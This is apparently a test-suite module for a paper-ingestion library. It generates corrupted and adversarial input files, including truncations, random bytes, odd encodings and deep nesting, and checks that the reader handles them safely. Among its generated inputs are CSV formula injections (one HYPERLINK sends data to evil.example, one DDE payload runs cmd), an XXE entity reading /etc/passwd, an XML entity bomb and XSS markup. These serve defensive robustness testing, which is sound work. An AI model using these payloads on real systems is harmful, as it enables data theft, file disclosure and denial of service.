import { mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { mulberry32 } from "@paperkg/graph";
import { readPapers } from "@paperkg/ingest";
import { CaseRecorder, type CaseReport } from "./CaseReport.ts";

const SAMPLES = [
  "000_7dca4d9b637ec388.txt",
  "001_d5c30b527c2c2899.txt",
  "002_970a2bdfedbc252e.txt",
  "003_4eab77fffd4a2170.txt",
];

interface Generated {
  name: string;
  bytes: Buffer;
  /** Records the file holds when we know it exactly (then papers + duplicates + rejected must equal it). */
  records?: number;
  /** Text that must never appear in any paper read from it. */
  forbidden?: string[];
  /** How many papers must come out at least. */
  minPapers?: number;
}

/**
 * Real records to mutate: the hand-labelled abstracts (samples and corpus) kept in the repository,
 * reduced to `{title, abstract}` JSON lines — so the suite runs on a clone without ../shared.
 */
function corpusLines(root: string, n: number): string[] {
  return readFileSync(join(root, "test/fixtures/labelled/abstracts.jsonl"), "utf8")
    .split("\n")
    .filter((l) => l.trim())
    .slice(0, n)
    .map((l) => {
      const { title, abstract } = JSON.parse(l) as { title: string; abstract: string };
      return JSON.stringify({ title, abstract });
    });
}

const csvCell = (s: string) => `"${s.replace(/"/g, '""')}"`;

/**
 * At least `count` malformed or adversarial input files made from the samples and real abstracts:
 * truncations, random bytes, 1 MB lines, Latin-1 and UTF-16, CSV formula injection, XML entity
 * bombs and external entities, JSON nested 10,000 deep, markup in titles and abstracts.
 */
export function* generateBadInputs(root: string, count: number, seed = 7): Generator<Generated> {
  const rng = mulberry32(seed);
  const pick = <T>(xs: T[]) => xs[Math.floor(rng() * xs.length)]!;
  const samples = SAMPLES.map((f) => readFileSync(join(root, "data/samples", f)));
  const lines = corpusLines(root, 300);
  const jsonl = Buffer.from(`${lines.slice(0, 50).join("\n")}\n`);
  const records = lines.slice(0, 50).map((l) => JSON.parse(l) as { title: string; abstract: string });
  const csv = Buffer.from(
    `title,abstract\n${records.map((r) => `${csvCell(r.title)},${csvCell(r.abstract)}`).join("\n")}\n`,
  );
  /** An Atom entry; `raw` is appended to title and summary unescaped (entity references). */
  const atomEntry = (r: { title: string; abstract: string }, i: number, raw = "") =>
    `<entry><id>http://arxiv.org/abs/2501.${String(10000 + i)}v1</id><title>${r.title.replace(/[<&]/g, " ")}${raw}</title><summary>${r.abstract.replace(/[<&]/g, " ")}${raw}</summary><published>2025-01-01T00:00:00Z</published></entry>`;
  const atom = Buffer.from(
    `<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom">${records
      .slice(0, 20)
      .map((r, i) => atomEntry(r, i))
      .join("")}</feed>`,
  );
  const sources = [...samples, jsonl, csv, atom, gzipSync(jsonl)];
  const exts = [".txt", ".txt", ".txt", ".txt", ".jsonl", ".csv", ".xml", ".jsonl.gz"];

  let made = 0;
  const kinds: (() => Generated)[] = [
    () => {
      const i = Math.floor(rng() * sources.length);
      const src = sources[i]!;
      return { name: `trunc${exts[i]}`, bytes: src.subarray(0, Math.floor(rng() * src.length)) };
    },
    () => {
      const bytes = Buffer.alloc(1 + Math.floor(rng() * 4096));
      for (let j = 0; j < bytes.length; j++) bytes[j] = Math.floor(rng() * 256);
      return { name: `random${pick([".txt", ".jsonl", ".csv", ".xml", ".gz", ".json"])}`, bytes };
    },
    () => {
      const i = Math.floor(rng() * sources.length);
      const src = Buffer.from(sources[i]!);
      for (let k = 0; k < 1 + rng() * 20; k++) src[Math.floor(rng() * src.length)] = Math.floor(rng() * 256);
      return { name: `flipped${exts[i]}`, bytes: src };
    },
    () => {
      const kind = pick(["txt", "jsonl", "csv"]);
      const big = "word ".repeat(210_000);
      const bytes =
        kind === "jsonl"
          ? Buffer.from(`${JSON.stringify({ title: "One huge line", abstract: big })}\n`)
          : kind === "csv"
            ? Buffer.from(`title,abstract\n"Huge",${csvCell(big)}\n`)
            : Buffer.from(big);
      return { name: `megaline.${kind}`, bytes, ...(kind === "txt" ? {} : { records: 1 }) };
    },
    () => {
      const text = jsonl.toString("utf8").replace(/e/g, "é");
      return { name: "latin1.jsonl", bytes: Buffer.from(text, "latin1"), records: 50 };
    },
    () => {
      const le = rng() < 0.5;
      const body = Buffer.from(csv.toString("utf8"), "utf16le");
      if (!le) body.swap16();
      return {
        name: `utf16${le ? "le" : "be"}.csv`,
        bytes: Buffer.concat([Buffer.from(le ? [0xff, 0xfe] : [0xfe, 0xff]), body]),
      };
    },
    () => {
      const rows = records.slice(0, 10).map((r, i) => {
        const title =
          i % 2
            ? `=HYPERLINK("http://evil.example/?x="&A1,"click") ${r.title}`
            : `+cmd|' /C calc'!A0 ${r.title}`;
        return `${csvCell(title)},${csvCell(`@SUM(1+1) ${r.abstract}`)}`;
      });
      return {
        name: "formula.csv",
        bytes: Buffer.from(`title,abstract\n${rows.join("\n")}\n`),
        records: 10,
        minPapers: 10,
      };
    },
    () => {
      const ents = Array.from({ length: 10 }, (_, k) => `<!ENTITY e${k + 1} "${`&e${k};`.repeat(10)}">`).join(
        "",
      );
      const xxe = rng() < 0.5;
      const dtd = xxe
        ? `<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`
        : `<!DOCTYPE feed [<!ENTITY e0 "lol">${ents}]>`;
      const ref = xxe ? "&xxe;" : "&e10;";
      const body = records
        .slice(0, 3)
        .map((r, i) => atomEntry(r, i, ` ${ref}`))
        .join("");
      return {
        name: xxe ? "xxe.xml" : "bomb.xml",
        bytes: Buffer.from(
          `<?xml version="1.0"?>${dtd}<feed xmlns="http://www.w3.org/2005/Atom">${body}</feed>`,
        ),
        forbidden: ["root:x:0:0", "lollollollollollollol"],
      };
    },
    () => {
      const deep = `${"[".repeat(10_000)}${"]".repeat(10_000)}`;
      const doc = rng() < 0.5;
      const bytes = doc
        ? Buffer.from(`[${JSON.stringify(records[0])},${deep}]`)
        : Buffer.from(
            `${JSON.stringify(records[0])}\n{"title": "Deep", "abstract": ${deep}}\n${JSON.stringify(records[1])}\n`,
          );
      return { name: doc ? "deep.json" : "deep.jsonl", bytes, ...(doc ? {} : { records: 3, minPapers: 2 }) };
    },
    () => {
      const rows = records.slice(0, 5).map((r) =>
        JSON.stringify({
          title: `<script>alert(1)</script><b>${r.title}</b>`,
          abstract: `<img src=x onerror="alert(2)">${r.abstract}<iframe src="javascript:alert(3)"></iframe>`,
        }),
      );
      return {
        name: "markup.jsonl",
        bytes: Buffer.from(`${rows.join("\n")}\n`),
        records: 5,
        minPapers: 5,
        forbidden: ["<script", "onerror", "<iframe"],
      };
    },
  ];
  while (made < count) {
    yield kinds[made % kinds.length]!();
    made++;
  }
}

/** Read every generated input; no exception may escape and every record must be accounted for. */
export async function runBadInputs(root: string, count: number): Promise<CaseReport> {
  const rec = new CaseRecorder(`bad input files (${count})`);
  const dir = join(tmpdir(), `paperkg-bad-${process.pid}`);
  mkdirSync(dir, { recursive: true });
  let slowest = 0;
  let peakRss = process.memoryUsage().rss;
  let i = 0;
  try {
    for (const input of generateBadInputs(root, count)) {
      const file = join(dir, `${String(i++).padStart(5, "0")}-${input.name}`);
      writeFileSync(file, input.bytes);
      const t0 = performance.now();
      try {
        const { papers, summary } = await readPapers([file]);
        const accounted = summary.papers + summary.duplicatesMerged + summary.rejected === summary.records;
        const exact = input.records === undefined || summary.records === input.records;
        const enough = input.minPapers === undefined || papers.length >= input.minPapers;
        const text = JSON.stringify(papers);
        const clean = !input.forbidden?.some((f) => text.includes(f));
        rec.check(
          accounted && exact && enough && clean,
          `${file}: accounted=${accounted} exact=${exact} enough=${enough} clean=${clean}`,
        );
      } catch (err) {
        rec.check(false, `${file}: threw ${(err as Error).message}`);
      }
      slowest = Math.max(slowest, performance.now() - t0);
      peakRss = Math.max(peakRss, process.memoryUsage().rss);
      rmSync(file, { force: true });
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
  return rec.report(`slowest file ${slowest.toFixed(0)} ms, peak RSS ${Math.round(peakRss / 2 ** 20)} MB`);
}
